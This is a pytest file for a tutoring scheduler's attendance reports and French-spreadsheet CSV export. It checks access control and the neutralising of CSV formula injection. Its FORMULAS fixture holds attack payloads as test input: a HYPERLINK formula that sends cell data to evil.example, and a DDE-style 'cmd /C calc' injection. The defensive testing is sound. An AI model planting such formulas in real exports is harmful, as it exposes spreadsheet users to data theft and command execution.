"""Attendance for the funders: counted per month, activity, tutor or student, and a CSV that a
French spreadsheet opens with its accents right."""

import csv
import io
from datetime import UTC, datetime, timedelta

from factories import MEDIATION, login, make_family, make_person, make_slot, make_tutor
from sqlalchemy import update

from scheduler_app.models import Booking
from scheduler_app.services.booking import book_slot, cancel_booking


def _mark(db, booking, status):
    db.execute(update(Booking).where(Booking.id == booking.id).values(status=status))
    db.commit()


def test_attendance_is_counted_per_tutor_and_exported_for_a_spreadsheet(client, db, frozen_clock):
    frozen_clock(datetime(2027, 1, 11, 9, 0, tzinfo=UTC))
    karim, claire = make_tutor(db), make_tutor(db, "Claire Martin", mediator=True)
    parent, kids = make_family(db, "Fatima Haddou", "Adam Haddou", "Yasmine Haddou", "Inès Haddou", "Sami Haddou")
    slots = [make_slot(db, karim, starts_in=timedelta(days=1)), make_slot(db, karim, starts_in=timedelta(days=2)),
             make_slot(db, claire, starts_in=timedelta(days=3)),
             make_slot(db, claire, starts_in=timedelta(days=4), activity_id=MEDIATION)]
    bookings = [book_slot(db, slot.id, kid, parent) for slot, kid in zip(slots[:3], kids, strict=False)]
    bookings.append(book_slot(db, slots[3].id, parent, parent))  # a mediation is for an adult
    frozen_clock(slots[3].starts_at - timedelta(hours=2))
    cancel_booking(db, bookings[3])  # late: two hours before
    _mark(db, bookings[0], "attended")
    _mark(db, bookings[1], "absent")
    early = book_slot(db, make_slot(db, claire, starts_in=timedelta(days=6)).id, kids[0], parent)
    cancel_booking(db, early)  # days before: not counted at all
    login(client, make_person(db, "coordinator", "Nadia Benali").email)

    html = client.get("/admin/reports?grouping=tutor&start=2027-01-01&end=2027-01-31").get_data(as_text=True)
    assert "Karim Haddad" in html and "Claire Martin" in html
    response = client.get("/admin/reports.csv?grouping=tutor&start=2027-01-01&end=2027-01-31")
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.data.startswith("\ufeff".encode())  # the BOM
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Groupe" and rows[0][4].startswith("Annulées tard")
    by_name = {row[0]: row[1:] for row in rows[1:]}
    assert by_name["Karim Haddad"] == ["2", "1", "1", "0", "0"]
    assert by_name["Claire Martin"] == ["2", "0", "0", "1", "1"]
    assert by_name["Total"] == ["4", "1", "1", "1", "1"]

    months = list(csv.reader(io.StringIO(client.get("/admin/reports.csv?grouping=month&start=2027-01-01&end=2027-01-31")
                                         .data.decode("utf-8-sig")), delimiter=";"))
    assert months[1][0] == "janvier 2027" and months[1][1] == "4"
    activities = client.get("/admin/reports?grouping=activity&start=2027-01-01&end=2027-01-31").get_data(as_text=True)
    assert "Médiation familiale" in activities and "Aide aux devoirs" in activities


def test_reports_are_for_coordinators_only(client, db):
    login(client, make_tutor(db).email)
    assert client.get("/admin/reports").status_code == 403
    assert client.get("/admin/reports.csv").status_code == 403


# Names as families could type them at sign-up or in "add a child", and how the CSV must give them.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?d="&A1;"clic")': '\'=HYPERLINK("http://evil.example/?d="&A1;"clic")',
    "+33612345678": "'+33612345678",
    "-2": "'-2",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2": "'\t=1+2",
    "\r=1+2": "'\r=1+2",
    " =1+2": "' =1+2",
    "Adam;=1+2": "Adam;'=1+2",
    'Léa"; -2+3': 'Léa"; \'-2+3',
}


def test_a_name_that_looks_like_a_formula_stays_text_in_the_spreadsheet(client, db, frozen_clock):
    frozen_clock(datetime(2027, 1, 11, 9, 0, tzinfo=UTC))
    tutor = make_tutor(db, "=1+1 Tutor")
    parent, kids = make_family(db, "Fatima Haddou", *FORMULAS)
    for day, kid in enumerate(kids, start=1):
        book_slot(db, make_slot(db, tutor, starts_in=timedelta(days=day)).id, kid, parent)
    login(client, make_person(db, "coordinator", "Nadia Benali").email)
    body = client.get("/admin/reports.csv?grouping=student&start=2027-01-01&end=2027-01-31").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    labels = [row[0] for row in rows[1:-1]]
    assert sorted(labels) == sorted(FORMULAS.values())
    assert all(row[1:] == ["1", "0", "0", "0", "1"] for row in rows[1:-1])  # the counts are still numbers
    # Split at every ';' and quote, as a careless reader would: no piece begins a formula either.
    pieces = [piece.strip(' "') for line in body.split("\r\n") for piece in line.replace('"', ";").split(";")]
    assert not [piece for piece in pieces if piece and piece[0] in "=+-@"]
    tutors = list(csv.reader(io.StringIO(client.get("/admin/reports.csv?grouping=tutor&start=2027-01-01&end=2027-01-31")
                                         .data.decode("utf-8-sig")), delimiter=";"))
    assert tutors[1][0] == "'=1+1 Tutor"


def test_formula_characters_are_neutralised_where_a_cell_could_begin():
    from scheduler_app.services.reports import neutralise

    assert neutralise("=1+2") == "'=1+2" and neutralise("@SUM(A1)") == "'@SUM(A1)" and neutralise("-2") == "'-2"
    assert neutralise("\t=1") == "'\t=1" and neutralise("\n=1") == "'\n=1" and neutralise("  +1") == "'  +1"
    assert neutralise('=1+2";=1+2') == "'=1+2\";'=1+2"  # OWASP's example, whose second cell is caught too
    for safe in ("Jean-Pierre Martin", "Aide aux devoirs", "janvier 2027", "O'Neil", "1-2", "nom@exemple.fr", ""):
        assert neutralise(safe) == safe
